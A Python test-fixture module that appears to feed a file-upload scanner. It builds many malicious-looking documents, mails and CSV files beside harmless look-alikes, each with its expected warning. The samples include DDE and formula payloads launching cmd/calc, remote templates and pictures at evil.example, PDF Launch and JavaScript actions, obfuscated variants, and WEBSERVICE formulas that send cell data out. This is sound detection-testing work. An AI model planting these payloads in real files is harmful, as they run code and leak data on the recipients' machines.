"""Files that run or fetch something when they are opened, and files that only look as if they did."""

import pikepdf

from tests.council.uploads.made_files import (
    PROGRAM,
    W,
    act,
    archive,
    cells,
    excel,
    forwarded,
    linked,
    mail,
    opening_many,
    opening_next,
    outlook,
    outside_stream,
    page_act,
    pdf,
    pdf_carrying,
    pdf_of,
    raw_mail,
    real_workbook,
    ring,
    template,
    unnamed_attachment,
    word,
    writer,
)

JS = act("JavaScript", JS=pikepdf.String("app.alert(1)"))
EMBEDDED = {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": excel("cmd|'/C calc'!A0")}


ACTIVE = {
    "an OLE object": (
        word(**{"word/_rels/document.xml.rels": linked("oleObject", "embeddings/oleObject1.bin", mode="")}),
        "docx",
        "embedded object",
    ),
    "a remote template": (
        word(**{"word/_rels/settings.xml.rels": linked("attachedTemplate", "https://evil.example/t.dotm")}),
        "docx",
        "a template",
    ),
    "a template on another machine": (
        word(**{"word/_rels/settings.xml.rels": linked("attachedTemplate", r"file:///\\evil\share\t.dotm")}),
        "docx",
        "a template",
    ),
    "a picture from elsewhere, its address written in numbers": (
        word(**{"word/_rels/document.xml.rels": linked("image", "&#104;ttp://evil.example/p.png")}),
        "docx",
        "a picture",
    ),
    "a frame": (
        word(**{"word/_rels/webSettings.xml.rels": linked("frame", "//evil.example/f")}),
        "docx",
        "another document",
    ),
    "a DDE field": (word("<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"), "docx", "DDE"),
    "a DDE field in pieces, other prefix": (
        word(
            "<x:r><x:instrText>DD</x:instrText></x:r><x:r><x:instrText>EAU</x:instrText></x:r>"
            "<x:instrText>TO cmd</x:instrText>"
        ),
        "docx",
        "DDE",
    ),
    "a simple DDE field": (word("<w:fldSimple w:instr='&#68;DE cmd'/>"), "docx", "DDE"),
    "an included picture": (
        word('<w:instrText>INCLUDEPICTURE "http://evil.example/x"</w:instrText>'),
        "docx",
        "fetches",
    ),
    "a workbook within that calls a program": (word(**EMBEDDED), "docx", "Microsoft_Excel_Sheet1.xlsx"),
    "a program within": (word(**{"word/embeddings/setup.exe": PROGRAM}), "docx", "setup.exe"),
    "a formula that starts a program": (excel("cmd|'/C calc'!A0"), "xlsx", "DDE"),
    "the same written in numbers": (excel("&#99;md|&apos;/C calc&apos;!A0"), "xlsx", "DDE"),
    "a DDE link": (
        excel(**{"xl/externalLinks/externalLink1.xml": "<w><ddeLink ddeService='cmd'/></w>"}),
        "xlsx",
        "DDE",
    ),
    "a workbook on another machine": (
        excel(
            **{
                "xl/externalLinks/_rels/externalLink1.xml.rels": linked(
                    "externalLinkPath", r"file:///\\evil\share\b.xlsx"
                )
            }
        ),
        "xlsx",
        "another workbook",
    ),
    "an event": (writer('<o><t:event-listener s:event-name="dom:load"/></o>'), "odt", "macro"),
    "a remote picture": (writer('<d:image x:href="https://evil.example/p.png"/>'), "odt", "fetches"),
    "a DDE source": (writer("<office:dde-source/>"), "odt", "DDE"),
    "an OLE object in OpenDocument": (
        writer("<o/>", **{"META-INF/manifest.xml": '<f m="application/vnd.sun.star.oleobject"/>'}),
        "odt",
        "embedded object",
    ),
    "a script at opening": (pdf(OpenAction=JS), "pdf", "script"),
    "a script by name": (
        pdf(
            Names=pikepdf.Dictionary(
                JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), JS]))
            )
        ),
        "pdf",
        "script",
    ),
    "a thread of another file": (
        pdf(OpenAction=act("Thread", F=pikepdf.String(r"\\evil.example\s\a.pdf"), D=0)),
        "pdf",
        "another address",
    ),
    "a launch": (pdf(OpenAction=act("Launch", F=pikepdf.String("cmd.exe"))), "pdf", "start a program"),
    "a launch after another act": (
        pdf(Extra=act("GoTo", Next=act("Launch", F=pikepdf.String("cmd.exe")))),
        "pdf",
        "start a program",
    ),
    "an address at opening": (
        pdf(OpenAction=act("URI", URI=pikepdf.String("https://evil.example"))),
        "pdf",
        "another address",
    ),
    "a form sent at closing": (
        pdf(AA=pikepdf.Dictionary(WC=act("SubmitForm", F=pikepdf.String("https://evil.example")))),
        "pdf",
        "another address",
    ),
    "an XFA form": (pdf(AcroForm=pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"))), "pdf", "form"),
    "a program by its name": (pdf_carrying("invoice.exe", b"x"), "pdf", "attachment"),
    "a program by its bytes": (pdf_carrying("invoice.txt", PROGRAM), "pdf", "attachment"),
    "a program in a mail": (mail("invoice.pdf.exe", b"x"), "eml", "invoice.pdf.exe"),
    "an ending that Windows tidies": (mail("minutes.exe. ", b"x"), "eml", "can run"),
    "a program by another name": (mail("photo.jpg", PROGRAM), "eml", "can run"),
    "a script in a ZIP in a mail": (mail("papers.zip", archive(**{"run.js": "x"})), "eml", "run.js"),
    "a shortcut in a ZIP in a ZIP": (
        mail("papers.zip", archive(**{"inner.zip": archive(**{"a.lnk": "x"})})),
        "eml",
        "a.lnk",
    ),
    "a page with a script": (mail("plan.html", b"<SCRIPT>x</SCRIPT>"), "eml", "web page"),
    "a PDF with a script in a mail": (mail("plan.pdf", pdf(OpenAction=JS)), "eml", "script"),
    "RTF with an object": (mail("note.rtf", b"{\\rtf1{\\object\\objdata 01}}"), "eml", "embedded object"),
    "a script in a forwarded mail": (forwarded("run.vbs", b"x"), "eml", "run.vbs"),
    "a script in an Outlook mail": (outlook("run.bat", b"x"), "msg", "run.bat"),
    "a document with a field in an Outlook mail": (
        outlook("plan.docx", word("<w:instrText>DDE cmd</w:instrText>")),
        "msg",
        "DDE",
    ),
    "a reminder's sound on another machine": (
        outlook("a.txt", b"x", **{"__substg1.0_8001001F": r"\\evil\share\a.wav".encode("utf-16-le")}),
        "msg",
        "another machine",
    ),
    "a formula in a list": (b"Title,Owner\n=cmd|'/C calc'!A0,x\n", "csv", "formula"),
    "a formula in quotes": (b"Title;\"@SUM(1)*cmd|'/C calc'!A0\"\n", "csv", "formula"),
}

HARMLESS = {
    "words about DDE": (word("<w:t>DDE fields are | not used!</w:t>"), "docx"),
    "a link to follow": (
        word(**{"word/_rels/document.xml.rels": linked("hyperlink", "https://council.example")}),
        "docx",
    ),
    "a template on one's own drive": (
        word(
            **{
                "word/_rels/settings.xml.rels": linked(
                    "attachedTemplate", r"file:///C:\Templates\Letter.dotx"
                )
            }
        ),
        "docx",
    ),
    "page numbers": (word("<w:instrText>PAGE</w:instrText><w:instrText>QUOTE DATE</w:instrText>"), "docx"),
    "a chart's workbook": (word(**{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": excel("A1+B1")}), "docx"),
    "a workbook with bars in words and names": (real_workbook(), "xlsx"),
    "an OpenDocument link": (writer('<t:a x:href="https://council.example">us</t:a>'), "odt"),
    "a PDF that opens at a thread of its own": (pdf(OpenAction=act("Thread", D=0)), "pdf"),
    "a PDF that opens at a page": (pdf(OpenAction=act("GoTo", D=pikepdf.Array([0]))), "pdf"),
    "a PDF's link": (pdf(Extra=act("URI", URI=pikepdf.String("https://council.example"))), "pdf"),
    "a PDF with figures attached": (pdf_carrying("figures.csv", b"1,2"), "pdf"),
    "a mail with minutes": (mail("minutes.docx", word()), "eml"),
    "a mail with an iPhone's picture": (mail("photo.heic", b"\0\0\0\x18ftypheic" + bytes(20)), "eml"),
    "an Outlook mail with minutes": (outlook("minutes.docx", word()), "msg"),
    "a list with signs": (b"Change,Sum\n-5%,+3\n=A1+B1,alice | bob!\n- Ann | Bo\n", "csv"),
}

CARRIED = {
    "x.rtf": b"{\\rtf1{\\*\\template http://evil.example/x}}",
    "field.rtf": b'{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/x"}}}',
    "x.slk": b"ID;P\nC;X1;Y1;EEXEC(1)",
    "x.iqy": b"WEB\n1\nhttp://evil.example",
    "x.library-ms": b"<x/>",
    "x.search-ms": b"x",
    "x.desktop": b"x",
    "x.pub": b"x",
    "x.7z": b"x",
    "x.rar": b"x",
    "photo.jpg": b"Rar!\x1a\x07\x00",
    "x.tar.gz": b"\x1f\x8b\x08",
}
ACTIVE |= {f"{name} in a mail": (mail(name, data), "eml", name) for name, data in CARRIED.items()}
ACTIVE |= {
    "a page in a PDF": (pdf_carrying("x.html", b"<script>1</script>"), "pdf", "attachment"),
    "a document in a PDF": (pdf_carrying("x.docx", word()), "pdf", "attachment"),
    "a PDF with a script in a PDF": (pdf_carrying("x.pdf", pdf(OpenAction=JS)), "pdf", "script"),
    "a link that starts a program": (
        word(**{"word/_rels/document.xml.rels": linked("hyperlink", "ms-msdt:/id PCWDiagnostic")}),
        "docx",
        "link that starts a program",
    ),
    "a formula that fetches": (b'a;b\n=IMPORTXML("http://evil.example");1\n', "csv", "formula"),
    "a formula that leads elsewhere": (b'a;b\n=HYPERLINK("http://evil.example");1\n', "csv", "formula"),
    "a formula with a wide sign": ("a;b\n＝cmd|'/C calc'!A0;1\n".encode(), "csv", "formula"),
}
HARMLESS |= {
    "a PDF in a PDF": (pdf_carrying("annex.pdf", pdf()), "pdf"),
    "a link to a colleague's folder": (
        word(**{"word/_rels/document.xml.rels": linked("hyperlink", r"file:///\\files\policy\waste.docx")}),
        "docx",
    ),
    "rich text with one's own template": (
        mail("letter.rtf", b"{\\rtf1{\\*\\template C:\\\\Templates\\\\Letter.dotm}}"),
        "eml",
    ),
}


STARTS = "cmd|'/c calc'!A1"
FIELD = "DDEAUTO c:\\\\windows\\\\cmd.exe"
ACTIVE |= {
    "a formula in a section": (cells(f"<f><![CDATA[{STARTS}]]></f>"), "xlsx", "DDE"),
    "a formula cut by a remark": (cells("<f>cmd<!-- x -->|'/c calc'!A1</f>"), "xlsx", "DDE"),
    "a formula cut by an instruction": (cells("<f>WEB<?x?>SERVICE(A1)</f>"), "xlsx", "fetches"),
    "a formula after a sign in a key": (cells(f"<f x='a>b'>{STARTS}</f>"), "xlsx", "DDE"),
    "a formula in an odd place": (cells(f"<f>{STARTS}</f>", "xl/ws/sheet.xml"), "xlsx", "DDE"),
    "a formula with an odd ending": (cells(f"<f>{STARTS}</f>", "xl/ws/sheet.dat"), "xlsx", "DDE"),
    "a formula in a name": (
        excel(**{"xl/workbook.xml": f"<workbook><definedName>{STARTS}</definedName></workbook>"}),
        "xlsx",
        "DDE",
    ),
    "a program in quotes": (excel("'cmd'|'/c calc'!A1"), "xlsx", "DDE"),
    "a formula that asks an address": (excel('_xlfn.WEBSERVICE("http://evil.example")'), "xlsx", "fetches"),
    "data fetched at opening": (
        excel(**{"xl/connections.xml": "<connections><connection refreshOnLoad='1'/></connections>"}),
        "xlsx",
        "fetches",
    ),
    "a type of its own": (
        word(**{"word/footer1.xml": "<!DOCTYPE a [<!ENTITY d 'DDE'>]><w:instrText>&d; cmd</w:instrText>"}),
        "docx",
        "unusual",
    ),
    "a field in a section": (word(f"<w:instrText><![CDATA[{FIELD}]]></w:instrText>"), "docx", "DDE"),
    "a field cut by a remark": (word("<w:instrText>DD<!-- -->EAUTO cmd</w:instrText>"), "docx", "DDE"),
    "a field in an odd place": (
        word(**{"doc/a.xml": f"<w:document {W}><w:instrText>{FIELD}</w:instrText></w:document>"}),
        "docx",
        "DDE",
    ),
    "a linked field": (
        word(r'<w:instrText>LINK Excel.Sheet.12 "\\\\\\\\evil\\\\b.xlsx" \a</w:instrText>'),
        "docx",
        "fetches",
    ),
    "a picture after a sign in a key": (
        writer('<d:image d:name="a>b" x:href="https://evil.example/p.png"/>'),
        "odt",
        "fetches",
    ),
    "a picture from a share": (writer('<d:image x:href="\\/evil/p.png"/>'), "odt", "fetches"),
    "a link that runs a macro": (writer('<t:a x:href="vnd.sun.star.script:x"/>'), "odt", "link"),
    "a program in OpenDocument's cell": (
        writer("<t:c t:formula=\"msoxl:=cmd|'/c calc'!A1\"/>"),
        "odt",
        "DDE",
    ),
    "a field in a drawing that isn't sound": (
        word(**{"word/vmlDrawing1.vml": "<xml><w:instrText>DDE cmd</w:instrText><br>"}),
        "docx",
        "DDE",
    ),
    "a script in OpenDocument": (writer("<o><office:script>x</office:script></o>"), "odt", "macro"),
    "an address after another act": (pdf_of(opening_next), "pdf", "another address"),
    "an address among acts": (pdf_of(opening_many), "pdf", "another address"),
    "an address at a page": (pdf_of(page_act), "pdf", "another address"),
    "bytes that lie elsewhere": (pdf_of(outside_stream), "pdf", "another address"),
    "an attachment without a name": (pdf_of(unnamed_attachment), "pdf", "attachment"),
    "a ZIP in a PDF": (pdf_carrying("a.zip", archive(**{"run.exe": PROGRAM})), "pdf", "attachment"),
    "a list in a PDF": (pdf_carrying("a.csv", b"a,=cmd|' /C calc'!A0\n"), "pdf", "formula"),
}
ACTIVE |= {
    f"a template at {target}": (template(target), "docx", "a template")
    for target in (
        "\\/evil\\t.dotm",
        "/\\evil\\t.dotm",
        "file:/\\evil\\t.dotm",
        "file:\\/evil/t.dotm",
        "file://///evil/t.dotm",
        "%5c%5cevil%5ct.dotm",
        "&#x200b;http://evil/t.dotm",
        "ht&#9;tp://evil/t.dotm",
        "url:http://evil/t.dotm",
        "smb://evil/x",
        "webdav:x",
        "\\??\\UNC\\evil\\t.dotm",
        "//?/UNC/evil/t.dotm",
    )
}
ACTIVE |= {
    f"a list with {cell!r}": (f"a,b\n1,{cell}\n".encode(), "csv", "formula")
    for cell in (
        "\"=IF(1,cmd|' /C calc'!A0)\"",
        '"=IF(1;cmd | calc!A0)"',
        "\"=\ncmd|' /C calc'!A0\"",
        '"=IF(1,WEBSERVICE(""http://evil.example/""&A1))"',
        '"=A1,WEBSERVICE(""http://evil.example/""&A1)"',
        '"=1+\n\nIMAGE(""http://evil.example/""&A1)"',
        "='cmd'|'/c calc'!A1",
    )
}
NOT_TAKEN = {
    "winmail.dat": b"\x78\x9f\x3e\x22",
    "a.appinstaller": b"<x",
    "a.command": b"x",
    "a.pyw": b"x",
    "a.udl": b"x",
    "a.unheard-of": b"x",
    "a.svg": b"<svg/>",
    "w.xml": b'<script xmlns="http://www.w3.org/1999/xhtml">',
    "v.xht": b"<script>",
    "noending": b"x",
    "b.rtf": b"{\\rt1 \\objdata}",
    "hex.rtf": b"{\\rtf1{\\*\\template \\'68ttp://evil.example/x}}",
    "cut.rtf": b'{\\rtf1{\\field{\\*\\fldinst {INC}{LUDEPICTURE} "\\\\\\\\evil\\\\x"}}}',
    "x.doc": b"{\\rt1\\object\\objdata}",
    "named.docx": b"{\\rtf1 x}",
    "x.html": b"<a onclick=x>",
    "y.html": b"<img src=x/onfocus = alert(1) autofocus>",
    "z.html": b"<meta http-equiv=refresh content=0;url=http://e>",
    "coded.html": b"<a href='java&#115;cript:x'>",
    "framed.html": b"<iframe src=http://evil.example>",
    "a.exe;x": b"x",
    "a.exe\u200b": b"x",
    "a.\u202eexe": b"x",
    "a.ics": b"BEGIN:VCALENDAR\r\nATTACH:file://evil/a.wav\r\n",
    "closed.p7m": b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03",
}
ACTIVE |= {f"{name!r} in a mail": (mail(name, data), "eml", "It carries") for name, data in NOT_TAKEN.items()}
ACTIVE |= {
    "a mail with two names for a file": (
        raw_mail(
            'Content-Type: application/x; name="a.exe"\r\nContent-Disposition: attachment; filename="a.txt"'
        ),
        "eml",
        "a.exe",
    ),
    "a program within the text of a mail": (
        raw_mail("Content-Type: text/plain", "Hello\nbegin 644 run.exe\n#0V%T\n`\nend\n"),
        "eml",
        "run.exe",
    ),
    "a header without end": (
        raw_mail("Content-Disposition: attachment" + "; a=b" * 60_000),
        "eml",
        "far more",
    ),
    "a header of words in code": (
        raw_mail('Content-Disposition: attachment; filename="' + "=?utf-8?q?a?= " * 20_000 + '"'),
        "eml",
        "far more",
    ),
    "a header in 40,000 parts": (
        raw_mail("Content-Type: application/x" + "".join(f"; name*{n}=a" for n in range(40_000))),
        "eml",
        "far more",
    ),
}
ACTIVE |= {
    f"a reminder at {place} ({form})": (
        outlook("a.txt", b"x", **{f"__substg1.0_8001{form}": place.encode(code)}),
        "msg",
        "another machine",
    )
    for place in ("\\\\evil\\a.wav", "\\/evil\\a.wav", "/\\evil\\a.wav", "file://evil/a.wav")
    for form, code in (("001F", "utf-16-le"), ("001E", "cp1252"))
}
HARMLESS |= {
    "a condition with a bar": (writer('<t:p t:condition="ooow:a==1 | b==2"/>'), "odt"),
    "a drawing that isn't sound": (word(**{"word/vmlDrawing1.vml": "<xml>a | b<br></xml>"}), "docx"),
    "a PDF whose acts go in a ring": (pdf_of(ring), "pdf"),
    "an Outlook mail with an address among its keys": (
        outlook("a.txt", b"x", **{"__substg1.0_8001001F": "https://council.example".encode("utf-16-le")}),
        "msg",
    ),
    "a document's own picture": (
        writer('<d:image x:href="Pictures/1.png"/><o/>'.join(["<o>", "</o>"])),
        "odt",
    ),
    "a list with a comma in a note": (b'a,b\n"- call Ann, or Bo (see image)","x | y!"\n', "csv"),
}
TAKEN = {
    "photo.jpg": b"\x89PNG\r\n\x1a\n",
    "logo.gif": b"GIF89a",
    "meeting.ics": b"BEGIN:VCALENDAR\r\nATTENDEE:x\r\n",
    "ann.vcf": b"BEGIN:VCARD\r\n",
    "run.log": b"once = 1",
    "notes.md": b"# Notes",
    "letter.rtf": b'{\\rtf1{\\field{\\*\\fldinst HYPERLINK "https://council.example"}}}',
    "note.html": b"<p>We go on = now</p><a href='https://council.example'>us</a>",
    "voice.mp3": b"ID3",
    "smime.p7s": b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02",
    "papers.zip": archive(**{"minutes/a.txt": "x", "minutes/b.docx": word()}),
    "image001": b"\x89PNG\r\n\x1a\n",
    "re.eml": mail("a.txt", b"x"),
}
HARMLESS |= {f"a mail with {name}": (mail(name, data), "eml") for name, data in TAKEN.items()}

LAUNCHING = pdf(OpenAction=act("Launch", F=pikepdf.String("cmd.exe")))
